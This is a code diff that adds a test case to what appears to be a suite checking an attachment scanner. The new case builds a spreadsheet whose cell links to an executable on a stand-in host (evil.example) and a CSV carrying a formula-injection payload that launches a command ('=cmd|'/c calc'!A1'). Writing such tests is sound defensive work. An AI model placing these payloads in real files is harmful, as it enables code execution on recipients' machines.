@@ -150,6 +150,19 @@ def macros_in_a_spreadsheet(s: Scene) -> Acts:
     yield from _told(s, [("预算.xlsm", _with(out.getvalue(), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}))])
 
 
+@attack(
+    Kind.DANGEROUS, "cells that start a program: in a table as text, and in a spreadsheet", "attachment-dangerous for staff alone"
+)
+def cells_that_start_a_program(s: Scene) -> Acts:
+    from openpyxl import Workbook
+
+    out, book = io.BytesIO(), Workbook()
+    book.active["A1"] = '=HYPERLINK("\\\\evil.example\\a.exe", "预算")'
+    book.save(out)
+    table = f"名称,金额\n{s.mark},=cmd|'/c calc'!A1\n"
+    yield from _told(s, [("经费.csv", table.encode("gb18030")), ("预算.xlsx", out.getvalue())])
+
+
 @attack(Kind.DANGEROUS, "a picture on a network share in a Word form", "never fetched; attachment-dangerous for staff alone")
 def a_picture_on_a_share(s: Scene) -> Acts:
     data = s.form("附件.docx")[1]
